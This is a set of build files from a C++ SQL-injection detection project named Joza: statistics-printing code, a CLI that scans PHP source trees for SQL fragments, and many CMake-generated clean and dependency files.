              js.ruleset_swaps);
  std::printf("snapshots:   %zu saves, %zu save failures, %zu loads\n",
              js.snapshot_saves, js.snapshot_save_failures,
              js.snapshot_loads);
  if (fleet) {
    const tenant::FleetStats fs = fleet->stats();
    std::printf("fleet:       %zu tenants (%zu resident), "
                "%llu/%llu bytes (peak %llu), %llu cold loads, "
                "%llu demotions, %llu waits, %llu acquire failures\n",
                fs.tenants, fs.resident,
                static_cast<unsigned long long>(fs.resident_bytes),
                static_cast<unsigned long long>(fs.budget_bytes),
                static_cast<unsigned long long>(fs.peak_resident_bytes),
                static_cast<unsigned long long>(fs.cold_loads),
                static_cast<unsigned long long>(fs.demotions),
                static_cast<unsigned long long>(fs.promote_waits),
                static_cast<unsigned long long>(fs.acquire_failures));
    std::printf("routing:     %zu routed, %zu unknown-tenant (404), "
                "%zu unavailable (503)\n",
                gs.tenant_routed, gs.tenant_404s, gs.tenant_unavailable);
    for (const tenant::TenantInfo& ti : fleet->TenantInfos()) {
      std::printf("tenant %-18s %s v%-4llu %10llu B, %llu reqs, "
                  "%llu cold loads, %llu demotions, %zu checked, "
                  "%zu blocked\n",
                  ti.id.c_str(), ti.resident ? "hot " : "cold",
                  static_cast<unsigned long long>(ti.ruleset_version),
                  static_cast<unsigned long long>(ti.resident_bytes),
                  static_cast<unsigned long long>(ti.requests),
                  static_cast<unsigned long long>(ti.cold_loads),
                  static_cast<unsigned long long>(ti.demotions),
                  ti.engine.queries_checked, ti.engine.attacks_detected);
    }
  }
  std::printf("nti match:   %zu exact hits, %zu seed candidates, %zu DP runs; "
              "tiers %zu ref / %zu bounded / %zu staged\n",
              js.nti_exact_hits, js.nti_seed_candidates, js.nti_dp_runs,
              js.nti_tier_reference, js.nti_tier_bounded, js.nti_tier_staged);
  std::printf("planner:     exact stage %zu batch-scope / %zu automaton / "
              "%zu find; %zu calibrated decisions (%s)\n",
              js.nti_planner_exact_batch, js.nti_planner_exact_automaton,
              js.nti_planner_exact_find, js.nti_planner_calibrated,
              cost_model_loaded ? "measured model" : "builtin");
  std::printf("degraded:    mode %s, %zu pti failures, %zu degraded checks, "
              "%zu degraded blocks, %zu breaker fast-rejects\n",
              core::DegradedModeName(degraded_mode), js.pti_failures,
              js.degraded_checks, js.degraded_blocks,
              js.breaker_fast_rejects);
  if (!fleet) {
    // Per-engine breaker state; fleet tenants each own one.
    const auto bs = joza.breaker().stats();
    std::printf("breaker:     state %s, %zu opens, %zu closes, %zu probes\n",
                resilience::BreakerStateName(joza.breaker().state()),
                bs.opens, bs.closes, bs.probes);
  }
  if (pool) {
    const auto ps = pool->stats();
    std::printf("pti pool:    %zu analyzed, %zu spawned, %zu replaced, "
                "%zu failures, %zu deadline misses\n",
                ps.analyzed, ps.spawned, ps.replaced, ps.failures,
                ps.deadline_misses);
    std::printf("pti pool:    target version %llu, %zu version mismatches\n",
                static_cast<unsigned long long>(ps.target_version),
                ps.version_mismatches);
    std::printf("supervisor:  state %s, %zu restarts, %zu denied, "
                "%zu spawn failures, %zu crashes\n",
                resilience::SupervisorStateName(pool->supervisor_state()),
                ps.supervisor.restarts, ps.supervisor.restarts_denied,
                ps.supervisor.spawn_failures, ps.supervisor.crashes);
    std::printf("supervisor:  %zu quarantines, %zu probes, %zu recoveries\n",
                ps.supervisor.quarantines, ps.supervisor.quarantine_probes,
                ps.supervisor.recoveries);
    std::printf("hedging:     %zu launched, %zu won, %zu retries denied\n",
                ps.hedges_launched, ps.hedges_won, ps.retries_denied);
    pool->Shutdown();
  }
  return 0;
}
