// joza_scan — the installer CLI (Section IV-A).
//
// Recursively scans a web application's source tree, extracts the PTI
// fragment vocabulary, and optionally persists it for daemon cold starts.
//
//   joza_scan <app-root> [--out fragments.jzfr] [--list] [--stats]
#include <cstdio>
#include <cstring>
#include <string>

#include "phpsrc/installer.h"

namespace {

void Usage() {
  std::puts(
      "usage: joza_scan <app-root> [options]\n"
      "  --out <file>   persist the fragment set (loadable by joza_check\n"
      "                 and the PTI daemon)\n"
      "  --list         print every retained fragment\n"
      "  --stats        print scan statistics");
}

}  // namespace

int main(int argc, char** argv) {
  using namespace joza;
  if (argc < 2) {
    Usage();
    return 2;
  }
  std::string root = argv[1];
  std::string out_path;
  bool list = false, stats = false;
  for (int i = 2; i < argc; ++i) {
    if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
      out_path = argv[++i];
    } else if (std::strcmp(argv[i], "--list") == 0) {
      list = true;
    } else if (std::strcmp(argv[i], "--stats") == 0) {
      stats = true;
    } else {
      Usage();
      return 2;
    }
  }

  php::ScanReport report;
  auto set = php::InstallFromDirectory(root, {}, &report);
  if (!set.ok()) {
    std::fprintf(stderr, "joza_scan: %s\n", set.status().ToString().c_str());
    return 1;
  }
  std::printf("scanned %zu source files (%zu bytes), %zu skipped\n",
              report.files_scanned, report.bytes_scanned,
              report.files_skipped);
  std::printf("retained %zu SQL-bearing fragments\n", set->size());

  if (stats) {
    std::size_t total_bytes = 0, max_len = 0;
    for (const php::Fragment& f : set->fragments()) {
      total_bytes += f.text.size();
      max_len = std::max(max_len, f.text.size());
    }
    std::printf("fragment bytes: %zu total, %.1f avg, %zu max\n", total_bytes,
                set->size() ? static_cast<double>(total_bytes) /
                                  static_cast<double>(set->size())
                            : 0.0,
                max_len);
  }
  if (list) {
    for (const php::Fragment& f : set->fragments()) {
      std::printf("  %-40s %s:%zu\n", ("\"" + f.text + "\"").c_str(),
                  f.source_path.c_str(), f.line);
    }
  }
  if (!out_path.empty()) {
    if (auto st = php::SaveFragments(set.value(), out_path); !st.ok()) {
      std::fprintf(stderr, "joza_scan: %s\n", st.ToString().c_str());
      return 1;
    }
    std::printf("fragment set written to %s\n", out_path.c_str());
  }
  return 0;
}
