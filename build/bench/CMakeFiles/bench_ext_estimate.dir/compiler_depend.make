# Empty compiler generated dependencies file for bench_ext_estimate.
# This may be replaced when dependencies are built.
