file(REMOVE_RECURSE
  "CMakeFiles/bench_ext_estimate.dir/bench_ext_estimate.cpp.o"
  "CMakeFiles/bench_ext_estimate.dir/bench_ext_estimate.cpp.o.d"
  "bench_ext_estimate"
  "bench_ext_estimate.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ext_estimate.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
