file(REMOVE_RECURSE
  "CMakeFiles/bench_crawl_scale.dir/bench_crawl_scale.cpp.o"
  "CMakeFiles/bench_crawl_scale.dir/bench_crawl_scale.cpp.o.d"
  "bench_crawl_scale"
  "bench_crawl_scale.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_crawl_scale.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
