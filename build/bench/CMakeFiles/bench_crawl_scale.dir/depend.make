# Empty dependencies file for bench_crawl_scale.
# This may be replaced when dependencies are built.
