file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_lev.dir/bench_ablation_lev.cpp.o"
  "CMakeFiles/bench_ablation_lev.dir/bench_ablation_lev.cpp.o.d"
  "bench_ablation_lev"
  "bench_ablation_lev.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_lev.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
