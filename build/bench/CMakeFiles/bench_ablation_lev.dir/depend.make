# Empty dependencies file for bench_ablation_lev.
# This may be replaced when dependencies are built.
