# Empty dependencies file for bench_ablation_match.
# This may be replaced when dependencies are built.
