file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_match.dir/bench_ablation_match.cpp.o"
  "CMakeFiles/bench_ablation_match.dir/bench_ablation_match.cpp.o.d"
  "bench_ablation_match"
  "bench_ablation_match.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_match.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
