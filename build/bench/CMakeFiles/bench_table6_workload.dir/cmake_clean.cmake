file(REMOVE_RECURSE
  "CMakeFiles/bench_table6_workload.dir/bench_table6_workload.cpp.o"
  "CMakeFiles/bench_table6_workload.dir/bench_table6_workload.cpp.o.d"
  "bench_table6_workload"
  "bench_table6_workload.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table6_workload.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
