# Empty compiler generated dependencies file for bench_table6_workload.
# This may be replaced when dependencies are built.
