# Empty compiler generated dependencies file for bench_fig8_request_times.
# This may be replaced when dependencies are built.
