file(REMOVE_RECURSE
  "CMakeFiles/bench_extraction_cost.dir/bench_extraction_cost.cpp.o"
  "CMakeFiles/bench_extraction_cost.dir/bench_extraction_cost.cpp.o.d"
  "bench_extraction_cost"
  "bench_extraction_cost.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_extraction_cost.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
