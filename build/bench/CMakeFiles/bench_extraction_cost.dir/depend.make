# Empty dependencies file for bench_extraction_cost.
# This may be replaced when dependencies are built.
