file(REMOVE_RECURSE
  "CMakeFiles/bench_table3_fragments.dir/bench_table3_fragments.cpp.o"
  "CMakeFiles/bench_table3_fragments.dir/bench_table3_fragments.cpp.o.d"
  "bench_table3_fragments"
  "bench_table3_fragments.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table3_fragments.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
