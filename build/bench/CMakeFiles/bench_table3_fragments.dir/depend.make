# Empty dependencies file for bench_table3_fragments.
# This may be replaced when dependencies are built.
