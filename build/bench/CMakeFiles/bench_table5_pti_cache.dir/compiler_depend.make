# Empty compiler generated dependencies file for bench_table5_pti_cache.
# This may be replaced when dependencies are built.
