# Empty dependencies file for bench_table7_wpcom.
# This may be replaced when dependencies are built.
