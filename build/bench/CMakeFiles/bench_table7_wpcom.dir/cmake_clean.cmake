file(REMOVE_RECURSE
  "CMakeFiles/bench_table7_wpcom.dir/bench_table7_wpcom.cpp.o"
  "CMakeFiles/bench_table7_wpcom.dir/bench_table7_wpcom.cpp.o.d"
  "bench_table7_wpcom"
  "bench_table7_wpcom.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table7_wpcom.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
