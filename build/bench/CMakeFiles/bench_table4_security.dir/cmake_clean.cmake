file(REMOVE_RECURSE
  "CMakeFiles/bench_table4_security.dir/bench_table4_security.cpp.o"
  "CMakeFiles/bench_table4_security.dir/bench_table4_security.cpp.o.d"
  "bench_table4_security"
  "bench_table4_security.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_table4_security.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
