file(REMOVE_RECURSE
  "CMakeFiles/attack_catalog_test.dir/attack_catalog_test.cpp.o"
  "CMakeFiles/attack_catalog_test.dir/attack_catalog_test.cpp.o.d"
  "attack_catalog_test"
  "attack_catalog_test.pdb"
  "attack_catalog_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_catalog_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
