# Empty dependencies file for http_request_test.
# This may be replaced when dependencies are built.
