file(REMOVE_RECURSE
  "CMakeFiles/http_request_test.dir/http_request_test.cpp.o"
  "CMakeFiles/http_request_test.dir/http_request_test.cpp.o.d"
  "http_request_test"
  "http_request_test.pdb"
  "http_request_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/http_request_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
