file(REMOVE_RECURSE
  "CMakeFiles/attack_evasion_test.dir/attack_evasion_test.cpp.o"
  "CMakeFiles/attack_evasion_test.dir/attack_evasion_test.cpp.o.d"
  "attack_evasion_test"
  "attack_evasion_test.pdb"
  "attack_evasion_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_evasion_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
