# Empty compiler generated dependencies file for attack_evasion_test.
# This may be replaced when dependencies are built.
