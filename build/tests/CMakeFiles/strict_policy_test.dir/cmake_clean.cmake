file(REMOVE_RECURSE
  "CMakeFiles/strict_policy_test.dir/strict_policy_test.cpp.o"
  "CMakeFiles/strict_policy_test.dir/strict_policy_test.cpp.o.d"
  "strict_policy_test"
  "strict_policy_test.pdb"
  "strict_policy_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/strict_policy_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
