# Empty compiler generated dependencies file for strict_policy_test.
# This may be replaced when dependencies are built.
