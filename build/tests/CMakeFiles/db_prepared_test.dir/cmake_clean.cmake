file(REMOVE_RECURSE
  "CMakeFiles/db_prepared_test.dir/db_prepared_test.cpp.o"
  "CMakeFiles/db_prepared_test.dir/db_prepared_test.cpp.o.d"
  "db_prepared_test"
  "db_prepared_test.pdb"
  "db_prepared_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/db_prepared_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
