# Empty compiler generated dependencies file for db_prepared_test.
# This may be replaced when dependencies are built.
