file(REMOVE_RECURSE
  "CMakeFiles/webapp_test.dir/webapp_test.cpp.o"
  "CMakeFiles/webapp_test.dir/webapp_test.cpp.o.d"
  "webapp_test"
  "webapp_test.pdb"
  "webapp_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/webapp_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
