file(REMOVE_RECURSE
  "CMakeFiles/core_joza_test.dir/core_joza_test.cpp.o"
  "CMakeFiles/core_joza_test.dir/core_joza_test.cpp.o.d"
  "core_joza_test"
  "core_joza_test.pdb"
  "core_joza_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/core_joza_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
