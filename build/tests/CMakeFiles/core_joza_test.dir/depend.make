# Empty dependencies file for core_joza_test.
# This may be replaced when dependencies are built.
