file(REMOVE_RECURSE
  "CMakeFiles/db_infoschema_test.dir/db_infoschema_test.cpp.o"
  "CMakeFiles/db_infoschema_test.dir/db_infoschema_test.cpp.o.d"
  "db_infoschema_test"
  "db_infoschema_test.pdb"
  "db_infoschema_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/db_infoschema_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
