file(REMOVE_RECURSE
  "CMakeFiles/nti_test.dir/nti_test.cpp.o"
  "CMakeFiles/nti_test.dir/nti_test.cpp.o.d"
  "nti_test"
  "nti_test.pdb"
  "nti_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/nti_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
