# Empty compiler generated dependencies file for nti_test.
# This may be replaced when dependencies are built.
