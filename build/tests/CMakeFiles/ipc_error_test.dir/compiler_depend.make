# Empty compiler generated dependencies file for ipc_error_test.
# This may be replaced when dependencies are built.
