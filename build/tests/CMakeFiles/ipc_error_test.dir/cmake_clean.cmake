file(REMOVE_RECURSE
  "CMakeFiles/ipc_error_test.dir/ipc_error_test.cpp.o"
  "CMakeFiles/ipc_error_test.dir/ipc_error_test.cpp.o.d"
  "ipc_error_test"
  "ipc_error_test.pdb"
  "ipc_error_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ipc_error_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
