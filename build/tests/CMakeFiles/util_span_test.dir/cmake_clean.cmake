file(REMOVE_RECURSE
  "CMakeFiles/util_span_test.dir/util_span_test.cpp.o"
  "CMakeFiles/util_span_test.dir/util_span_test.cpp.o.d"
  "util_span_test"
  "util_span_test.pdb"
  "util_span_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/util_span_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
