# Empty dependencies file for util_span_test.
# This may be replaced when dependencies are built.
