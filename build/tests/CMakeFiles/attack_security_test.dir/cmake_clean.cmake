file(REMOVE_RECURSE
  "CMakeFiles/attack_security_test.dir/attack_security_test.cpp.o"
  "CMakeFiles/attack_security_test.dir/attack_security_test.cpp.o.d"
  "attack_security_test"
  "attack_security_test.pdb"
  "attack_security_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_security_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
