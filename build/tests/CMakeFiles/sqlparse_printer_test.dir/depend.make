# Empty dependencies file for sqlparse_printer_test.
# This may be replaced when dependencies are built.
