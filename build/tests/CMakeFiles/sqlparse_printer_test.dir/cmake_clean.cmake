file(REMOVE_RECURSE
  "CMakeFiles/sqlparse_printer_test.dir/sqlparse_printer_test.cpp.o"
  "CMakeFiles/sqlparse_printer_test.dir/sqlparse_printer_test.cpp.o.d"
  "sqlparse_printer_test"
  "sqlparse_printer_test.pdb"
  "sqlparse_printer_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sqlparse_printer_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
