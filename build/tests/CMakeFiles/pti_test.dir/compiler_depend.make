# Empty compiler generated dependencies file for pti_test.
# This may be replaced when dependencies are built.
