file(REMOVE_RECURSE
  "CMakeFiles/pti_test.dir/pti_test.cpp.o"
  "CMakeFiles/pti_test.dir/pti_test.cpp.o.d"
  "pti_test"
  "pti_test.pdb"
  "pti_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pti_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
