
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/pti_test.cpp" "tests/CMakeFiles/pti_test.dir/pti_test.cpp.o" "gcc" "tests/CMakeFiles/pti_test.dir/pti_test.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/pti/CMakeFiles/joza_pti.dir/DependInfo.cmake"
  "/root/repo/build/src/match/CMakeFiles/joza_match.dir/DependInfo.cmake"
  "/root/repo/build/src/phpsrc/CMakeFiles/joza_phpsrc.dir/DependInfo.cmake"
  "/root/repo/build/src/sqlparse/CMakeFiles/joza_sqlparse.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/joza_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
