file(REMOVE_RECURSE
  "CMakeFiles/secondorder_test.dir/secondorder_test.cpp.o"
  "CMakeFiles/secondorder_test.dir/secondorder_test.cpp.o.d"
  "secondorder_test"
  "secondorder_test.pdb"
  "secondorder_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/secondorder_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
