# Empty compiler generated dependencies file for secondorder_test.
# This may be replaced when dependencies are built.
