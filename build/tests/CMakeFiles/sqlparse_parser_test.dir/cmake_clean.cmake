file(REMOVE_RECURSE
  "CMakeFiles/sqlparse_parser_test.dir/sqlparse_parser_test.cpp.o"
  "CMakeFiles/sqlparse_parser_test.dir/sqlparse_parser_test.cpp.o.d"
  "sqlparse_parser_test"
  "sqlparse_parser_test.pdb"
  "sqlparse_parser_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sqlparse_parser_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
