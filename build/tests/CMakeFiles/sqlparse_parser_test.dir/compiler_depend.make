# Empty compiler generated dependencies file for sqlparse_parser_test.
# This may be replaced when dependencies are built.
