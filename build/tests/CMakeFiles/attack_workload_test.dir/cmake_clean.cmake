file(REMOVE_RECURSE
  "CMakeFiles/attack_workload_test.dir/attack_workload_test.cpp.o"
  "CMakeFiles/attack_workload_test.dir/attack_workload_test.cpp.o.d"
  "attack_workload_test"
  "attack_workload_test.pdb"
  "attack_workload_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_workload_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
