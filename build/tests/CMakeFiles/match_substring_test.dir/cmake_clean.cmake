file(REMOVE_RECURSE
  "CMakeFiles/match_substring_test.dir/match_substring_test.cpp.o"
  "CMakeFiles/match_substring_test.dir/match_substring_test.cpp.o.d"
  "match_substring_test"
  "match_substring_test.pdb"
  "match_substring_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/match_substring_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
