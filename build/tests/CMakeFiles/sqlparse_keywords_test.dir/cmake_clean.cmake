file(REMOVE_RECURSE
  "CMakeFiles/sqlparse_keywords_test.dir/sqlparse_keywords_test.cpp.o"
  "CMakeFiles/sqlparse_keywords_test.dir/sqlparse_keywords_test.cpp.o.d"
  "sqlparse_keywords_test"
  "sqlparse_keywords_test.pdb"
  "sqlparse_keywords_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sqlparse_keywords_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
