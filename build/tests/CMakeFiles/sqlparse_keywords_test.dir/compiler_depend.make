# Empty compiler generated dependencies file for sqlparse_keywords_test.
# This may be replaced when dependencies are built.
