file(REMOVE_RECURSE
  "CMakeFiles/phpsrc_installer_test.dir/phpsrc_installer_test.cpp.o"
  "CMakeFiles/phpsrc_installer_test.dir/phpsrc_installer_test.cpp.o.d"
  "phpsrc_installer_test"
  "phpsrc_installer_test.pdb"
  "phpsrc_installer_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/phpsrc_installer_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
