# Empty compiler generated dependencies file for phpsrc_installer_test.
# This may be replaced when dependencies are built.
