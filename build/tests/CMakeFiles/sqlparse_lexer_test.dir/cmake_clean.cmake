file(REMOVE_RECURSE
  "CMakeFiles/sqlparse_lexer_test.dir/sqlparse_lexer_test.cpp.o"
  "CMakeFiles/sqlparse_lexer_test.dir/sqlparse_lexer_test.cpp.o.d"
  "sqlparse_lexer_test"
  "sqlparse_lexer_test.pdb"
  "sqlparse_lexer_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sqlparse_lexer_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
