# Empty compiler generated dependencies file for sqlparse_lexer_test.
# This may be replaced when dependencies are built.
