# Empty compiler generated dependencies file for attack_extractor_test.
# This may be replaced when dependencies are built.
