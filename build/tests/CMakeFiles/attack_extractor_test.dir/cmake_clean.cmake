file(REMOVE_RECURSE
  "CMakeFiles/attack_extractor_test.dir/attack_extractor_test.cpp.o"
  "CMakeFiles/attack_extractor_test.dir/attack_extractor_test.cpp.o.d"
  "attack_extractor_test"
  "attack_extractor_test.pdb"
  "attack_extractor_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_extractor_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
