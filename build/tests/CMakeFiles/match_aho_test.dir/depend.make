# Empty dependencies file for match_aho_test.
# This may be replaced when dependencies are built.
