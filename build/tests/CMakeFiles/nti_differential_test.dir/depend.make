# Empty dependencies file for nti_differential_test.
# This may be replaced when dependencies are built.
