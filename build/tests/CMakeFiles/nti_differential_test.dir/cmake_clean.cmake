file(REMOVE_RECURSE
  "CMakeFiles/nti_differential_test.dir/nti_differential_test.cpp.o"
  "CMakeFiles/nti_differential_test.dir/nti_differential_test.cpp.o.d"
  "nti_differential_test"
  "nti_differential_test.pdb"
  "nti_differential_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/nti_differential_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
