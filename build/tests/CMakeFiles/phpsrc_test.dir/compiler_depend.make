# Empty compiler generated dependencies file for phpsrc_test.
# This may be replaced when dependencies are built.
