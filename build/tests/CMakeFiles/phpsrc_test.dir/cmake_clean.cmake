file(REMOVE_RECURSE
  "CMakeFiles/phpsrc_test.dir/phpsrc_test.cpp.o"
  "CMakeFiles/phpsrc_test.dir/phpsrc_test.cpp.o.d"
  "phpsrc_test"
  "phpsrc_test.pdb"
  "phpsrc_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/phpsrc_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
