file(REMOVE_RECURSE
  "CMakeFiles/match_levenshtein_test.dir/match_levenshtein_test.cpp.o"
  "CMakeFiles/match_levenshtein_test.dir/match_levenshtein_test.cpp.o.d"
  "match_levenshtein_test"
  "match_levenshtein_test.pdb"
  "match_levenshtein_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/match_levenshtein_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
