# Empty compiler generated dependencies file for match_levenshtein_test.
# This may be replaced when dependencies are built.
