file(REMOVE_RECURSE
  "CMakeFiles/sqlparse_structure_test.dir/sqlparse_structure_test.cpp.o"
  "CMakeFiles/sqlparse_structure_test.dir/sqlparse_structure_test.cpp.o.d"
  "sqlparse_structure_test"
  "sqlparse_structure_test.pdb"
  "sqlparse_structure_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sqlparse_structure_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
