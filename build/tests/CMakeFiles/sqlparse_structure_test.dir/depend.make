# Empty dependencies file for sqlparse_structure_test.
# This may be replaced when dependencies are built.
