# Empty dependencies file for joza_util.
# This may be replaced when dependencies are built.
