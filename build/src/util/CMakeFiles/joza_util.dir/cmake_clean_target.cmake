file(REMOVE_RECURSE
  "libjoza_util.a"
)
