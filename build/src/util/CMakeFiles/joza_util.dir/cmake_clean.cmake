file(REMOVE_RECURSE
  "CMakeFiles/joza_util.dir/codec.cpp.o"
  "CMakeFiles/joza_util.dir/codec.cpp.o.d"
  "CMakeFiles/joza_util.dir/rng.cpp.o"
  "CMakeFiles/joza_util.dir/rng.cpp.o.d"
  "CMakeFiles/joza_util.dir/strings.cpp.o"
  "CMakeFiles/joza_util.dir/strings.cpp.o.d"
  "libjoza_util.a"
  "libjoza_util.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_util.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
