file(REMOVE_RECURSE
  "libjoza_match.a"
)
