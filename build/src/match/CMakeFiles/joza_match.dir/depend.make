# Empty dependencies file for joza_match.
# This may be replaced when dependencies are built.
