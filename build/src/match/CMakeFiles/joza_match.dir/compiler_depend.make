# Empty compiler generated dependencies file for joza_match.
# This may be replaced when dependencies are built.
