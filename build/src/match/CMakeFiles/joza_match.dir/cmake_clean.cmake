file(REMOVE_RECURSE
  "CMakeFiles/joza_match.dir/aho_corasick.cpp.o"
  "CMakeFiles/joza_match.dir/aho_corasick.cpp.o.d"
  "CMakeFiles/joza_match.dir/levenshtein.cpp.o"
  "CMakeFiles/joza_match.dir/levenshtein.cpp.o.d"
  "CMakeFiles/joza_match.dir/substring.cpp.o"
  "CMakeFiles/joza_match.dir/substring.cpp.o.d"
  "libjoza_match.a"
  "libjoza_match.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_match.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
