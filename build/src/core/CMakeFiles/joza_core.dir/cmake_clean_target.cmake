file(REMOVE_RECURSE
  "libjoza_core.a"
)
