file(REMOVE_RECURSE
  "CMakeFiles/joza_core.dir/joza.cpp.o"
  "CMakeFiles/joza_core.dir/joza.cpp.o.d"
  "libjoza_core.a"
  "libjoza_core.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/joza_core.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
