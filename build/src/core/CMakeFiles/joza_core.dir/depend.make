# Empty dependencies file for joza_core.
# This may be replaced when dependencies are built.
