file(REMOVE_RECURSE
  "CMakeFiles/joza_webapp.dir/application.cpp.o"
  "CMakeFiles/joza_webapp.dir/application.cpp.o.d"
  "CMakeFiles/joza_webapp.dir/http_server.cpp.o"
  "CMakeFiles/joza_webapp.dir/http_server.cpp.o.d"
  "CMakeFiles/joza_webapp.dir/transforms.cpp.o"
  "CMakeFiles/joza_webapp.dir/transforms.cpp.o.d"
